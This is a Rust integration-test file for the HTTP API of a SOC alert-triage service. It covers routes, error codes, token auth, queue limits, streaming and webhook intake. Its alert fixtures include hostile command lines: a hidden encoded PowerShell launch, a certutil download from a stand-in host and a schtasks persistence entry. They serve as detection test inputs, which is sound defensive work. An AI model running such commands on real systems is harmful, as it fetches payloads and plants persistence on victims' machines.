@@ -1,0 +1,641 @@
+//! The HTTP API through the real server on an ephemeral loopback port: every route, each
+//! error status, auth on and off, the body limit, the queue limit, concurrent triages,
+//! streaming, webhook payloads in the shapes Splunk and Elastic send, graceful shutdown.
+
+use std::sync::Arc;
+use std::time::Duration;
+
+use serde_json::{Value, json};
+use soc_copilot::llm::anthropic::Anthropic;
+use soc_copilot::llm::client::DriveOptions;
+use soc_copilot::llm::select::Engine;
+use soc_copilot::search::KnowledgeBase;
+use soc_copilot::search::ingest::locate;
+use soc_copilot::server::{self, AppState, Intake, KbSlot, Limits};
+use soc_copilot::store::Store;
+use soc_copilot::triage::TriageParams;
+use soc_copilot::triage::model::ModelSettings;
+use tokio::sync::{mpsc, oneshot, watch};
+
+use crate::common::{fixture_bundle, ingest_into, repo};
+use crate::support::llm::{LlmServer, Reply, anthropic_stream};
+
+struct Api {
+    base: String,
+    dir: tempfile::TempDir,
+    http: reqwest::Client,
+    stop: Option<oneshot::Sender<()>>,
+    done: tokio::task::JoinHandle<()>,
+    intake: mpsc::UnboundedReceiver<Intake>,
+    _kb: watch::Sender<KbSlot>,
+}
+
+struct Opts {
+    token: Option<&'static str>,
+    engine: Option<Engine>,
+    limits: Limits,
+    kb_ready: bool,
+}
+
+impl Default for Opts {
+    fn default() -> Self {
+        Opts {
+            token: None,
+            engine: None,
+            limits: Limits {
+                concurrency: 4,
+                queue_depth: 64,
+                body_limit: 64 * 1024,
+                request_timeout: Duration::from_secs(30),
+            },
+            kb_ready: true,
+        }
+    }
+}
+
+async fn start(o: Opts) -> Api {
+    let dir = tempfile::tempdir().expect("tempdir");
+    ingest_into(&fixture_bundle(), dir.path(), Err("BM25 only".into()));
+    let slot: KbSlot = if o.kb_ready {
+        Some(Ok(Arc::new(
+            KnowledgeBase::open(&locate(dir.path()), None).expect("kb"),
+        )))
+    } else {
+        None
+    };
+    let (kb_tx, kb_rx) = watch::channel(slot);
+    let (itx, irx) = mpsc::unbounded_channel();
+    let state = Arc::new(AppState::new(
+        kb_rx,
+        o.engine,
+        TriageParams::default(),
+        dir.path().to_path_buf(),
+        o.limits,
+        o.token.map(|t| soc_copilot::config::Secret(t.into())),
+        "api-test".into(),
+        Some(itx),
+    ));
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
+        .await
+        .expect("bind");
+    let base = format!("http://{}", listener.local_addr().expect("addr"));
+    let (stop, stopped) = oneshot::channel::<()>();
+    let done = tokio::spawn(async move {
+        server::serve(listener, state, async {
+            let _ = stopped.await;
+        })
+        .await
+        .expect("serve");
+    });
+    Api {
+        base,
+        dir,
+        http: reqwest::Client::new(),
+        stop: Some(stop),
+        done,
+        intake: irx,
+        _kb: kb_tx,
+    }
+}
+
+impl Api {
+    async fn post(&self, path: &str, body: Value) -> (u16, Value) {
+        let r = self
+            .http
+            .post(format!("{}{path}", self.base))
+            .json(&body)
+            .send()
+            .await
+            .expect("send");
+        let status = r.status().as_u16();
+        (status, r.json().await.unwrap_or(Value::Null))
+    }
+
+    async fn get(&self, path: &str) -> (u16, Value) {
+        let r = self
+            .http
+            .get(format!("{}{path}", self.base))
+            .send()
+            .await
+            .expect("send");
+        let status = r.status().as_u16();
+        (status, r.json().await.unwrap_or(Value::Null))
+    }
+
+    async fn raw(&self, path: &str, body: Vec<u8>) -> (u16, Value) {
+        let r = self
+            .http
+            .post(format!("{}{path}", self.base))
+            .header("content-type", "application/json")
+            .body(body)
+            .send()
+            .await
+            .expect("send");
+        let status = r.status().as_u16();
+        (status, r.json().await.unwrap_or(Value::Null))
+    }
+}
+
+fn alert() -> Value {
+    json!({"alert": {"alert_id": "api-1", "severity": "high", "title": "Encoded PowerShell launched by Microsoft Word",
+        "description": "WINWORD.EXE spawned powershell.exe -enc with a hidden window",
+        "raw_log": {"ParentImage": "WINWORD.EXE", "CommandLine": "powershell -nop -w hidden -enc SQBFAFgA"}}})
+}
+
+fn error_code(v: &Value) -> &str {
+    v["error"]["code"].as_str().unwrap_or("")
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn triage_feedback_accuracy_and_lookup() {
+    let api = start(Opts::default()).await;
+    let (s, h) = api.get("/health").await;
+    assert_eq!(s, 200, "{h}");
+    assert_eq!(h["status"], "ok");
+    assert_eq!(h["engine"], "offline");
+    assert!(h["techniques"].as_u64().is_some_and(|n| n > 0));
+    assert_eq!(h["store_reachable"], true);
+
+    let (s, v) = api.post("/triage", alert()).await;
+    assert_eq!(s, 200, "{v}");
+    let id = v["triage_id"].as_str().expect("triage_id").to_string();
+    assert!(
+        ["CRITICAL", "HIGH", "MEDIUM", "LOW", "BENIGN"]
+            .contains(&v["verdict"].as_str().unwrap_or(""))
+    );
+    assert_eq!(v["alert_id"], "api-1");
+    assert_eq!(v["provenance"]["engine"], "offline");
+
+    let (s, v) = api
+        .post(
+            "/triage",
+            json!({"alert_text": "certutil -urlcache -f http://x.example/a.exe a.exe", "top_k": 3}),
+        )
+        .await;
+    assert_eq!(s, 200, "{v}");
+    assert!(
+        v["provenance"]["retrieval"]
+            .as_array()
+            .is_some_and(|r| r.len() <= 3)
+    );
+    // Any alert shape, unwrapped.
+    let (s, v) = api.post("/triage", json!({"rule": {"level": 12, "description": "sshd brute force"}, "agent": {"name": "web-01"}})).await;
+    assert_eq!(s, 200, "{v}");
+
+    let (s, v) = api
+        .post("/feedback", json!({"triage_id": id, "analyst_verdict": "HIGH", "analyst_correct": true, "analyst_notes": "confirmed with the user"}))
+        .await;
+    assert_eq!(s, 201, "{v}");
+    let (s, t) = api.get(&format!("/triage/{id}")).await;
+    assert_eq!(s, 200, "{t}");
+    assert_eq!(t["status"], "complete");
+    assert_eq!(t["feedback"][0]["thumbs"], "up");
+    assert_eq!(t["feedback"][0]["notes"], "confirmed with the user");
+    let (s, a) = api.get("/feedback/accuracy").await;
+    assert_eq!(s, 200);
+    assert_eq!(a["overall"]["total"], 1);
+    let (s, list) = api.get("/alerts?limit=10").await;
+    assert_eq!(s, 200);
+    assert_eq!(list.as_array().map(Vec::len), Some(3));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn each_error_has_its_status_and_a_json_body() {
+    let api = start(Opts::default()).await;
+    // (route, body, status, error code, field named)
+    type Case = (
+        &'static str,
+        Vec<u8>,
+        u16,
+        &'static str,
+        Option<&'static str>,
+    );
+    let cases: Vec<Case> = vec![
+        ("/triage", b"".to_vec(), 400, "bad_request", None),
+        ("/triage", b"{not json".to_vec(), 400, "bad_request", None),
+        ("/triage", b"[1,2]".to_vec(), 400, "bad_request", None),
+        (
+            "/triage",
+            br#"{"alert_text": "x", "top_k": 0}"#.to_vec(),
+            400,
+            "bad_request",
+            Some("top_k"),
+        ),
+        (
+            "/triage",
+            br#"{"alert_text": "x", "alert": {"a": 1}}"#.to_vec(),
+            400,
+            "bad_request",
+            Some("alert"),
+        ),
+        (
+            "/triage",
+            br#"{"alert_text": "   "}"#.to_vec(),
+            400,
+            "bad_request",
+            Some("alert_text"),
+        ),
+        (
+            "/triage",
+            br#"{"alert": "text"}"#.to_vec(),
+            400,
+            "bad_request",
+            Some("alert"),
+        ),
+        (
+            "/feedback",
+            br#"{"triage_id": "nope", "analyst_verdict": "HIGH", "analyst_correct": true}"#
+                .to_vec(),
+            404,
+            "unknown_triage",
+            None,
+        ),
+        (
+            "/feedback",
+            br#"{"triage_id": "x", "analyst_verdict": "SPICY", "analyst_correct": true}"#.to_vec(),
+            400,
+            "bad_request",
+            Some("analyst_verdict"),
+        ),
+        (
+            "/feedback",
+            br#"{"triage_id": "x", "analyst_verdict": "HIGH"}"#.to_vec(),
+            400,
+            "bad_request",
+            Some("analyst_correct"),
+        ),
+        (
+            "/alerts",
+            b"\x00\x01\x02binary".to_vec(),
+            400,
+            "bad_request",
+            None,
+        ),
+    ];
+    for (path, body, status, code, field) in cases {
+        let shown = String::from_utf8_lossy(&body).to_string();
+        let (s, v) = api.raw(path, body).await;
+        assert_eq!(s, status, "{path} {shown}: {v}");
+        assert_eq!(error_code(&v), code, "{path} {shown}: {v}");
+        if let Some(f) = field {
+            assert_eq!(v["error"]["field"], f, "{path} {shown}: {v}");
+        }
+        assert!(
+            v["error"]["message"]
+                .as_str()
+                .is_some_and(|m| !m.is_empty())
+        );
+    }
+    let (s, v) = api.raw("/triage", vec![b'x'; 100 * 1024]).await;
+    assert_eq!((s, error_code(&v)), (413, "too_large"), "{v}");
+    let (s, v) = api.get("/nowhere").await;
+    assert_eq!((s, error_code(&v)), (404, "not_found"));
+    let (s, v) = api.get("/triage/no-such-id").await;
+    assert_eq!((s, error_code(&v)), (404, "unknown_triage"));
+    let (s, v) = api.get("/triage").await;
+    assert_eq!((s, error_code(&v)), (405, "method_not_allowed"));
+    let (s, v) = api.get("/alerts?limit=abc").await;
+    assert_eq!((s, v["error"]["field"].as_str()), (400, Some("limit")));
+    let (s, _) = api.get("/alerts?limit=0").await;
+    assert_eq!(s, 400);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn bearer_token_guards_every_route_but_health() {
+    let api = start(Opts {
+        token: Some("s3cret-token"),
+        ..Opts::default()
+    })
+    .await;
+    let (s, _) = api.get("/health").await;
+    assert_eq!(s, 200);
+    let r = api
+        .http
+        .post(format!("{}/triage", api.base))
+        .json(&alert())
+        .send()
+        .await
+        .expect("send");
+    assert_eq!(r.status().as_u16(), 401);
+    assert_eq!(
+        r.headers()
+            .get("www-authenticate")
+            .and_then(|v| v.to_str().ok()),
+        Some("Bearer")
+    );
+    let body: Value = r.json().await.expect("json");
+    assert_eq!(error_code(&body), "unauthorized");
+    assert!(!body.to_string().contains("s3cret"));
+    for token in ["wrong", "s3cret-token-but-longer", ""] {
+        let r = api
+            .http
+            .get(format!("{}/alerts", api.base))
+            .bearer_auth(token)
+            .send()
+            .await
+            .expect("send");
+        assert_eq!(r.status().as_u16(), 401, "{token}");
+    }
+    let r = api
+        .http
+        .post(format!("{}/triage", api.base))
+        .bearer_auth("s3cret-token")
+        .json(&alert())
+        .send()
+        .await
+        .expect("send");
+    assert_eq!(r.status().as_u16(), 200);
+    let r = api
+        .http
+        .get(format!("{}/openapi.json", api.base))
+        .send()
+        .await
+        .expect("send");
+    assert_eq!(r.status().as_u16(), 401, "the spec needs the token too");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn not_ready_is_503_and_a_full_queue_is_429() {
+    let api = start(Opts {
+        kb_ready: false,
+        ..Opts::default()
+    })
+    .await;
+    let (s, h) = api.get("/health").await;
+    assert_eq!((s, h["status"].as_str()), (503, Some("starting")));
+    let (s, v) = api.post("/triage", alert()).await;
+    assert_eq!((s, error_code(&v)), (503, "not_ready"));
+
+    // One slot, no waiting room, and a model that never answers: the second triage is refused.
+    let llm = LlmServer::start(vec![Reply::Pinging, Reply::Pinging]).await;
+    let engine = Engine {
+        provider: Arc::new(Anthropic::new(
+            &llm.base_url(),
+            "sk-ant-x",
+            "claude-sonnet-4-5",
+            reqwest::Client::new(),
+            DriveOptions::default(),
+        )),
+        settings: ModelSettings {
+            max_tokens: 512,
+            temperature: 0.0,
+            input_per_mtok: 3.0,
+            output_per_mtok: 15.0,
+        },
+    };
+    let api = start(Opts {
+        engine: Some(engine),
+        limits: Limits {
+            concurrency: 1,
+            queue_depth: 0,
+            body_limit: 65536,
+            request_timeout: Duration::from_secs(30),
+        },
+        ..Opts::default()
+    })
+    .await;
+    let url = format!("{}/triage", api.base);
+    let first = tokio::spawn({
+        let http = api.http.clone();
+        async move { http.post(url).json(&alert()).send().await }
+    });
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
+    while llm.recorded().is_empty() {
+        assert!(tokio::time::Instant::now() < deadline);
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    let r = api
+        .http
+        .post(format!("{}/triage", api.base))
+        .json(&alert())
+        .send()
+        .await
+        .expect("send");
+    assert_eq!(r.status().as_u16(), 429);
+    assert_eq!(
+        r.headers().get("retry-after").and_then(|v| v.to_str().ok()),
+        Some("1")
+    );
+    let v: Value = r.json().await.expect("json");
+    assert_eq!(error_code(&v), "queue_full");
+    first.abort();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn concurrent_triages_are_all_answered_and_stored() {
+    let api = start(Opts::default()).await;
+    let mut tasks = Vec::new();
+    for i in 0..24 {
+        let http = api.http.clone();
+        let url = format!("{}/triage", api.base);
+        tasks.push(tokio::spawn(async move {
+            let body = json!({"alert": {"alert_id": format!("c-{i}"), "title": format!("Scheduled task created by schtasks #{i}"),
+                "description": "schtasks /create /sc onlogon /tr C:\\Users\\Public\\u.exe"}});
+            let r = http.post(url).json(&body).send().await.expect("send");
+            r.status().as_u16()
+        }));
+    }
+    for t in tasks {
+        assert_eq!(t.await.expect("task"), 200);
+    }
+    let store = Store::open_in(api.dir.path()).expect("store");
+    let all = store.recent_triages(100).expect("triages");
+    assert_eq!(all.len(), 24);
+    assert!(
+        all.iter()
+            .all(|t| t.status == soc_copilot::store::TriageStatus::Complete)
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn streaming_sends_techniques_reasoning_then_the_verdict() {
+    let verdict = json!({"verdict": "HIGH", "confidence": 0.8, "matched_techniques": [{"id": "T1059.001", "name": "PowerShell", "rationale": "encoded"}],
+        "attack_chain": [], "reasoning": "Word spawned PowerShell.", "recommended_actions": ["Isolate"], "false_positive_indicators": [],
+        "investigation_queries": [], "evidence": [], "escalation": {"recommended": true, "draft": "x"}}).to_string();
+    let llm = LlmServer::start(vec![Reply::sse(&anthropic_stream(
+        &["Word spawned ", "PowerShell.\n```json\n", &verdict, "\n```"],
+        100,
+        40,
+    ))])
+    .await;
+    let engine = Engine {
+        provider: Arc::new(Anthropic::new(
+            &llm.base_url(),
+            "sk-ant-x",
+            "claude-sonnet-4-5",
+            reqwest::Client::new(),
+            DriveOptions::default(),
+        )),
+        settings: ModelSettings {
+            max_tokens: 512,
+            temperature: 0.0,
+            input_per_mtok: 3.0,
+            output_per_mtok: 15.0,
+        },
+    };
+    let api = start(Opts {
+        engine: Some(engine),
+        ..Opts::default()
+    })
+    .await;
+    let r = api
+        .http
+        .post(format!("{}/triage?stream=true", api.base))
+        .json(&alert())
+        .send()
+        .await
+        .expect("send");
+    assert_eq!(r.status().as_u16(), 200);
+    assert!(
+        r.headers()
+            .get("content-type")
+            .and_then(|v| v.to_str().ok())
+            .is_some_and(|c| c.starts_with("text/event-stream"))
+    );
+    let text = r.text().await.expect("body");
+    let events: Vec<&str> = text
+        .lines()
+        .filter_map(|l| l.strip_prefix("event: "))
+        .collect();
+    assert_eq!(events.first(), Some(&"techniques"), "{text}");
+    assert!(events.contains(&"reasoning"));
+    assert_eq!(events.last(), Some(&"verdict"), "{text}");
+    let verdict_line = text
+        .lines()
+        .skip_while(|l| *l != "event: verdict")
+        .nth(1)
+        .expect("data");
+    let v: Value =
+        serde_json::from_str(verdict_line.strip_prefix("data: ").expect("data")).expect("json");
+    assert_eq!(v["verdict"], "HIGH");
+    assert!(v["triage_id"].as_str().is_some());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn webhook_payloads_from_splunk_and_elastic_are_queued() {
+    let mut api = start(Opts::default()).await;
+    let splunk =
+        std::fs::read(repo().join("data/webhooks/splunk-alert-action.json")).expect("sample");
+    let (s, v) = api.raw("/alerts", splunk).await;
+    assert_eq!(s, 202, "{v}");
+    assert_eq!(v["accepted"], 1);
+    let elastic =
+        std::fs::read(repo().join("data/webhooks/elastic-webhook-connector.json")).expect("sample");
+    let (s, v) = api.raw("/alerts", elastic).await;
+    assert_eq!(s, 202, "{v}");
+    assert_eq!(v["accepted"], 2);
+    assert_eq!(v["alert_ids"], json!(["wh-elastic-01", "wh-elastic-02"]));
+    let ndjson =
+        b"{\"alert_text\": \"one\"}\nnot json\n{\"alert_id\": \"n-2\", \"title\": \"two\"}\n"
+            .to_vec();
+    let (s, v) = api.raw("/alerts", ndjson).await;
+    assert_eq!(s, 202, "{v}");
+    assert_eq!(v["accepted"], 2);
+    assert_eq!(v["errors"][0]["origin"], "POST /alerts:2");
+
+    let first = api.intake.recv().await.expect("intake");
+    assert_eq!(first.alerts.len(), 1);
+    let splunk = &first.alerts[0].alert;
+    assert_eq!(
+        splunk.format, "splunk",
+        "read as a Splunk webhook: {splunk:?}"
+    );
+    assert_eq!(splunk.host.as_deref(), Some("VPN-GW-01"));
+    assert!(splunk.full_text().contains("Excessive Failed Logins"));
+    let second = api.intake.recv().await.expect("intake");
+    assert_eq!(second.alerts[0].alert.host.as_deref(), Some("FIN-WS-051"));
+    let (_, list) = api.get("/alerts").await;
+    assert_eq!(list.as_array().map(Vec::len), Some(5));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn openapi_document_and_swagger_ui() {
+    let api = start(Opts::default()).await;
+    let (s, spec) = api.get("/openapi.json").await;
+    assert_eq!(s, 200);
+    assert!(
+        spec["openapi"]
+            .as_str()
+            .is_some_and(|v| v.starts_with("3."))
+    );
+    for p in [
+        "/triage",
+        "/triage/{id}",
+        "/feedback",
+        "/feedback/accuracy",
+        "/alerts",
+        "/health",
+    ] {
+        assert!(spec["paths"][p].is_object(), "{p} missing from the spec");
+    }
+    assert!(spec["components"]["schemas"]["ErrorBody"].is_object());
+    assert!(spec["components"]["securitySchemes"]["bearer"].is_object());
+    let r = api
+        .http
+        .get(format!("{}/docs/", api.base))
+        .send()
+        .await
+        .expect("send");
+    assert_eq!(r.status().as_u16(), 200);
+    assert!(r.text().await.expect("html").contains("swagger"));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn shutdown_lets_a_triage_in_flight_finish_and_be_stored() {
+    let verdict = json!({"verdict": "LOW", "confidence": 0.6, "matched_techniques": [], "attack_chain": [], "reasoning": "r",
+        "recommended_actions": [], "false_positive_indicators": [], "investigation_queries": [], "evidence": [],
+        "escalation": {"recommended": false, "draft": ""}}).to_string();
+    let mut slow = Reply::sse(&anthropic_stream(
+        &["thinking… ", "```json\n", &verdict, "\n```"],
+        10,
+        10,
+    ));
+    if let Reply::Sse { delay, .. } = &mut slow {
+        *delay = Duration::from_millis(150);
+    }
+    let llm = LlmServer::start(vec![slow]).await;
+    let engine = Engine {
+        provider: Arc::new(Anthropic::new(
+            &llm.base_url(),
+            "sk-ant-x",
+            "claude-sonnet-4-5",
+            reqwest::Client::new(),
+            DriveOptions::default(),
+        )),
+        settings: ModelSettings {
+            max_tokens: 512,
+            temperature: 0.0,
+            input_per_mtok: 3.0,
+            output_per_mtok: 15.0,
+        },
+    };
+    let mut api = start(Opts {
+        engine: Some(engine),
+        ..Opts::default()
+    })
+    .await;
+    let url = format!("{}/triage", api.base);
+    let http = api.http.clone();
+    let pending = tokio::spawn(async move {
+        http.post(url)
+            .json(&alert())
+            .send()
+            .await
+            .map(|r| r.status().as_u16())
+    });
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
+    while llm.recorded().is_empty() {
+        assert!(tokio::time::Instant::now() < deadline);
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
+    let _ = api.stop.take().map(|s| s.send(()));
+    assert_eq!(pending.await.expect("task").expect("answered"), 200);
+    tokio::time::timeout(Duration::from_secs(10), &mut api.done)
+        .await
+        .expect("server stops")
+        .expect("join");
+    let store = Store::open_in(api.dir.path()).expect("store");
+    let t = store.recent_triages(5).expect("triages");
+    assert_eq!(t.len(), 1);
+    assert_eq!(t[0].status, soc_copilot::store::TriageStatus::Complete);
+}
